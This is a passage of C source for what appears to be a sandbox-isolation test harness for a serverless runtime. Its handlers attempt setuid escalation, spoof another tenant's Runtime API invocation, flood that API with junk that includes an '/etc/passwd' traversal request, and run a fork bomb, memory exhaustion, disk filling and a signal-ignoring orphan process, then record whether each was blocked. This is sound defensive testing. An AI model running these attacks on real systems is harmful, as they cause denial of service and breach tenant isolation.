    add(results, "hold a capability, root, or a way to gain privileges", blocked, "%s", detail);
}

/* Runs a setuid-root program and reads the effective uid the kernel gave it. */
static void attack_setuid(json_t *results)
{
    static const char *const candidates[] = {"/usr/bin/passwd", "/usr/bin/chfn", "/usr/bin/newgrp",
                                             "/usr/bin/mount", "/bin/su"};
    const char *prog = NULL;
    struct stat st;
    for (size_t i = 0; i < sizeof(candidates) / sizeof(candidates[0]) && !prog; i++)
        if (stat(candidates[i], &st) == 0 && (st.st_mode & S_ISUID))
            prog = candidates[i];
    struct statvfs vfs;
    bool nosuid = statvfs("/usr", &vfs) == 0 && (vfs.f_flag & ST_NOSUID);
    if (!prog) {
        add(results, "gain root through a setuid binary", nosuid,
            "no setuid-root program visible; /usr nosuid: %d", nosuid);
        return;
    }
    int in[2], gate[2];
    if (pipe2(in, O_CLOEXEC) < 0 || pipe2(gate, O_CLOEXEC) < 0) {
        add(results, "gain root through a setuid binary", false, "pipe: %s", strerror(errno));
        return;
    }
    pid_t pid = fork();
    if (pid == 0) {
        dup2(in[0], 0);
        int null = open("/dev/null", O_WRONLY);
        dup2(null, 1);
        dup2(null, 2);
        char *argv[] = {(char *)prog, NULL};
        char *envp[] = {NULL};
        execve(prog, argv, envp);
        int e = errno;
        if (write(gate[1], &e, sizeof(e)) < 0)
            _exit(126);
        _exit(127);
    }
    close(gate[1]);
    int exec_err = 0;
    ssize_t got = read(gate[0], &exec_err, sizeof(exec_err)); /* 0 bytes: the exec happened */
    close(gate[0]);
    char path[64], status[4096] = "";
    snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
    (void)read_all(path, status, sizeof(status));
    const char *uid = strstr(status, "Uid:");
    unsigned ruid = 0, euid = 0;
    bool parsed = uid && sscanf(uid, "Uid: %u %u", &ruid, &euid) == 2;
    kill(pid, SIGKILL);
    close(in[0]);
    close(in[1]);
    waitpid(pid, NULL, 0);
    if (got > 0)
        add(results, "gain root through a setuid binary", true, "%s: exec refused: %s", prog,
            strerrorname_np(exec_err));
    else
        add(results, "gain root through a setuid binary", parsed && euid == ruid && euid != 0,
            "%s ran with uid %u euid %u; /usr nosuid: %d", prog, ruid, euid, nosuid);
    /* The code package may carry a setuid bit in its zip; extraction drops it. */
    int probe = stat("/var/task/suid-probe", &st);
    add(results, "ship a setuid file in the code package", probe == 0 && !(st.st_mode & 06000),
        "/var/task/suid-probe mode %o", probe == 0 ? st.st_mode & 07777 : 0);
}

static int do_attacks(json_t *ev, struct tdrt_response *resp)
{
    struct needle nd;
    if (decode_needle(json_string_value(json_object_get(ev, "secretHex")), &nd) < 0)
        return tdrt_response_error(resp, "AttackBadEvent", "attacks need \"secretHex\"");
    json_t *host_pids = json_object_get(ev, "hostPids");
    json_t *results = json_array();
    attack_tmp(results, &nd);
    attack_visible_processes(results, &nd, host_pids);
    attack_host_pids(results, &nd, host_pids);
    attack_own_namespace_tracing(results);
    attack_host_files(results, json_string_value(json_object_get(ev, "statePath")));
    attack_writes(results);
    attack_network(results, (int)json_integer_value(json_object_get(ev, "daemonPort")),
                   json_object_get(ev, "hostAddrs"));
    attack_raw_sockets(results);
    attack_families(results);
    attack_escapes(results);
    attack_privileges(results);
    attack_setuid(results);
    return answer(resp, json_pack("{s:o}", "results", results));
}

/* ---- A: the Runtime API ---- */

/* One HTTP/1.1 exchange with this environment's Runtime API; returns the status code. */
static int api_request(const char *method, const char *path, const char *body, char *reply,
                       size_t reply_size)
{
    const char *api = getenv("AWS_LAMBDA_RUNTIME_API");
    char host[64] = "127.0.0.1";
    int port = 9001;
    if (api)
        sscanf(api, "%63[^:]:%d", host, &port);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &sa.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
        if (fd >= 0)
            close(fd);
        return -errno;
    }
    char req[2048];
    int n = snprintf(req, sizeof(req),
                     "%s %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %zu\r\nConnection: "
                     "close\r\n\r\n%s",
                     method, path, host, strlen(body), body);
    if (write(fd, req, (size_t)n) != n) {
        close(fd);
        return -EIO;
    }
    size_t len = 0;
    ssize_t got;
    while (len + 1 < reply_size && (got = read(fd, reply + len, reply_size - 1 - len)) > 0)
        len += (size_t)got;
    reply[len] = '\0';
    close(fd);
    int status = 0;
    return sscanf(reply, "HTTP/1.%*d %d", &status) == 1 ? status : -EIO;
}

static int do_spoof(json_t *ev, struct tdrt_response *resp)
{
    const char *id = json_string_value(json_object_get(ev, "requestId"));
    if (!id || strlen(id) > 128)
        return tdrt_response_error(resp, "AttackBadEvent", "spoof needs \"requestId\"");
    json_t *results = json_array();
    static const char *const kinds[] = {"response", "error"};
    for (size_t i = 0; i < 2; i++) {
        char path[256], reply[2048];
        snprintf(path, sizeof(path), "/2018-06-01/runtime/invocation/%s/%s", id, kinds[i]);
        int status = api_request("POST", path, "{\"pwned\":true}", reply, sizeof(reply));
        char attack[128];
        snprintf(attack, sizeof(attack),
                 "answer another environment's invocation through 127.0.0.1:9001 (/%s)", kinds[i]);
        const char *body = strstr(reply, "\r\n\r\n");
        add(results, attack, status >= 400 && status < 500, "HTTP %d %s", status,
            body ? body + 4 : "");
    }
    return answer(resp, json_pack("{s:o}", "results", results));
}

/* Holds as many connections to the Runtime API as it can and sends garbage and requests on
 * them for `ms`. */
static int do_flood(json_t *ev, struct tdrt_response *resp)
{
    json_int_t ms = json_integer_value(json_object_get(ev, "ms"));
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(9001)};
    inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
    enum { SLOTS = 256 };
    int fds[SLOTS];
    long opened = 0, failed = 0, requests = 0, closed = 0;
    for (int i = 0; i < SLOTS; i++)
        fds[i] = -1;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    static const char *const junk[] = {
        "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n",
        "POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\nHost: x\r\nContent-Length: "
        "1\r\n\r\nx",
        "GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 garbage\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nX-Big: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n"};
    for (long round = 0;; round++) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        long elapsed = (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000;
        if (elapsed >= ms)
            break;
        for (int i = 0; i < SLOTS; i++) {
            if (fds[i] < 0) {
                fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
                if (fds[i] < 0 || (connect(fds[i], (struct sockaddr *)&sa, sizeof(sa)) < 0 &&
                                   errno != EINPROGRESS)) {
                    failed++;
                    if (fds[i] >= 0)
                        close(fds[i]);
                    fds[i] = -1;
                    continue;
                }
                opened++;
            }
            const char *j = junk[(size_t)(round + i) % (sizeof(junk) / sizeof(junk[0]))];
            if (send(fds[i], j, strlen(j), MSG_NOSIGNAL) > 0)
                requests++;
            char sink[4096];
            ssize_t n = recv(fds[i], sink, sizeof(sink), MSG_DONTWAIT);
            if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) {
                close(fds[i]);
                fds[i] = -1;
                closed++;
            }
        }
        sleep_ms(1);
    }
    for (int i = 0; i < SLOTS; i++)
        if (fds[i] >= 0)
            close(fds[i]);
    return answer(resp, json_pack("{s:I, s:I, s:I, s:I}", "opened", (json_int_t)opened, "failed",
                                  (json_int_t)failed, "requests", (json_int_t)requests, "closed",
                                  (json_int_t)closed));
}

/* Garbage on the inherited Runtime API socket while tdrt is not using it (the handler runs). */
static int do_api_socket(json_t *ev, struct tdrt_response *resp)
{
    enum { API_FD = 3 }; /* TENANTD_RUNTIME_API_FD, which tdrt took out of the environment */
    struct stat st;
    if (fstat(API_FD, &st) < 0 || !S_ISSOCK(st.st_mode))
        return tdrt_response_error(resp, "AttackBadEvent", "fd %d is not a socket", API_FD);
    if (json_is_true(json_object_get(ev, "cut"))) {
        int r = shutdown(API_FD, SHUT_RDWR);
        return answer(resp, json_pack("{s:b}", "cut", r == 0));
    }
    static const char junk[] =
        "\x16\x03\x01\x02\x00 GET /2018-06-01/runtime/invocation/next\r\n\r\n";
    if (send(API_FD, junk, sizeof(junk) - 1, MSG_NOSIGNAL) < 0)
        return tdrt_response_error(resp, "AttackFailed", "send: %s", strerror(errno));
    char reply[1024];
    size_t len = 0;
    bool closed = false;
    for (int waited = 0; !closed && len + 1 < sizeof(reply) && waited < 3000;) {
        struct pollfd p = {API_FD, POLLIN, 0};
        if (poll(&p, 1, 100) == 0) {
            waited += 100;
            continue;
        }
        ssize_t n = recv(API_FD, reply + len, sizeof(reply) - 1 - len, 0);
        if (n <= 0)
            closed = true;
        else
            len += (size_t)n;
    }
    reply[len] = '\0';
    int status = 0;
    (void)sscanf(reply, "HTTP/1.1 %d", &status);
    return answer(resp,
                  json_pack("{s:i, s:b, s:s}", "status", status, "closed", closed, "reply", reply));
}

/* ---- A: resources ---- */

__attribute__((noreturn)) static void do_fork_bomb(void)
{
    long forked = 0;
    int err = 0;
    for (long i = 0; i < 100000; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            for (;;)
                (void)fork();
        }
        if (pid < 0) {
            err = errno;
            break;
        }
        forked++;
    }
    fprintf(stderr, "fork-bomb: forked %ld before %s\n", forked, err ? strerrorname_np(err) : "-");
    for (;;)
        sleep_ms(1000);
}

__attribute__((noreturn)) static void do_oom(void)
{
    for (size_t total = 0;; total += 1 << 20) {
        char *p = malloc(1 << 20);
        if (!p) {
            fprintf(stderr, "oom: malloc failed after %zu MB\n", total >> 20);
            sleep_ms(100);
            continue;
        }
        memset(p, 0x5a, 1 << 20);
    }
}

static int do_fill_tmp(struct tdrt_response *resp)
{
    int fd = open("/tmp/fill", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0)
        return tdrt_response_error(resp, "AttackError", "/tmp/fill: %s", strerror(errno));
    static char chunk[1 << 20];
    memset(chunk, 0x5a, sizeof(chunk));
    long long written = 0;
    int err = 0;
    for (;;) {
        ssize_t n = write(fd, chunk, sizeof(chunk));
        if (n < 0) {
            err = errno;
            break;
        }
        written += n;
    }
    close(fd);
    (void)unlink("/tmp/fill");
    return answer(resp, json_pack("{s:I, s:s}", "written", (json_int_t)written, "errno",
                                  strerrorname_np(err)));
}

__attribute__((noreturn)) static void do_spin(void)
{
    volatile unsigned long x = 0;
    for (;;)
        x = x + 1;
}

static void stray_next_poll(void)
{
    struct timespec pause = {0, 300 * 1000 * 1000}; /* the runtime is back in its long poll */
    nanosleep(&pause, NULL);
    char line[1024] = "";
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(9001)};
    inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
    static const char next[] =
        "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n";
    if (fd >= 0 && connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0 &&
        send(fd, next, sizeof(next) - 1, MSG_NOSIGNAL) > 0) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 3000) > 0) {
            ssize_t n = recv(fd, line, sizeof(line) - 1, 0);
            line[n > 0 ? n : 0] = '\0';
        }
    }
    int out = open("/tmp/stray-next", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (out >= 0 && write(out, line, strlen(line)) < 0)
        _exit(1);
    _exit(0);
}

static int do_stray_next(struct tdrt_response *resp)
{
    (void)unlink("/tmp/stray-next");
    pid_t child = fork();
    if (child == 0) {
        if (fork() == 0)
            stray_next_poll();
        _exit(0);
    }
    if (child < 0)
        return tdrt_response_error(resp, "AttackError", "fork: %s", strerror(errno));
    waitpid(child, NULL, 0);
    return answer(resp, json_pack("{s:b}", "forked", 1));
}

static int do_stray_result(struct tdrt_response *resp)
{
    char line[1024] = "";
    int fd = open("/tmp/stray-next", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return answer(resp, json_pack("{s:b}", "done", 0));
    ssize_t n = read(fd, line, sizeof(line) - 1);
    close(fd);
    line[n > 0 ? n : 0] = '\0';
    return answer(resp, json_pack("{s:b, s:s}", "done", 1, "line", line));
}

/* Double fork and setsid: a process that no longer belongs to the runtime's session. */
static int do_linger(struct tdrt_response *resp)
{
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0)
        return tdrt_response_error(resp, "AttackError", "pipe: %s", strerror(errno));
    pid_t child = fork();
    if (child == 0) {
        setsid();
        pid_t grandchild = fork();
        if (grandchild == 0) {
            prctl(PR_SET_NAME, "td-linger");
            signal(SIGTERM, SIG_IGN);
            signal(SIGHUP, SIG_IGN);
            signal(SIGINT, SIG_IGN);
            pid_t self = getpid();
            if (write(p[1], &self, sizeof(self)) < 0)
                _exit(1);
            close(p[1]);
            for (;;)
                pause();
        }
        _exit(0);
    }
    close(p[1]);
    pid_t lingering = -1;
    if (read(p[0], &lingering, sizeof(lingering)) != sizeof(lingering))
        lingering = -1;
    close(p[0]);
    waitpid(child, NULL, 0);
    return answer(resp, json_pack("{s:i}", "pid", (int)lingering));
}

/* ---- dispatch ---- */

static int handler(const struct tdrt_context *ctx, const char *event, size_t event_len,
                   struct tdrt_response *resp, void *userdata)
{
    (void)userdata;
    json_t *ev = json_loadb(event, event_len, 0, NULL);
    const char *action = json_string_value(json_object_get(ev, "action"));
    int r;
    if (!action)
        r = tdrt_response_error(resp, "AttackBadEvent", "the event has no \"action\"");
    else if (strcmp(action, "hold") == 0)
        r = do_hold(ctx, ev, resp);
    else if (strcmp(action, "check") == 0)
        r = do_check(ev, resp);
    else if (strcmp(action, "attacks") == 0)
        r = do_attacks(ev, resp);
    else if (strcmp(action, "spoof") == 0)
        r = do_spoof(ev, resp);
    else if (strcmp(action, "flood") == 0)
        r = do_flood(ev, resp);
    else if (strcmp(action, "api-socket") == 0)
        r = do_api_socket(ev, resp);
    else if (strcmp(action, "fork-bomb") == 0)
        do_fork_bomb();
    else if (strcmp(action, "oom") == 0)
        do_oom();
    else if (strcmp(action, "fill-tmp") == 0)
        r = do_fill_tmp(resp);
    else if (strcmp(action, "spin") == 0)
        do_spin();
    else if (strcmp(action, "linger") == 0)
        r = do_linger(resp);
    else if (strcmp(action, "stray-next") == 0)
        r = do_stray_next(resp);
    else if (strcmp(action, "stray-result") == 0)
        r = do_stray_result(resp);
    else if (strcmp(action, "ping") == 0)
        r = answer(resp, json_pack("{s:b}", "pong", 1));
    else
        r = tdrt_response_error(resp, "AttackBadEvent", "unknown action \"%s\"", action);
    json_decref(ev);
    return r;
}

int main(void)
{
    return tdrt_run(handler, NULL) < 0 ? EXIT_FAILURE : EXIT_SUCCESS;
}
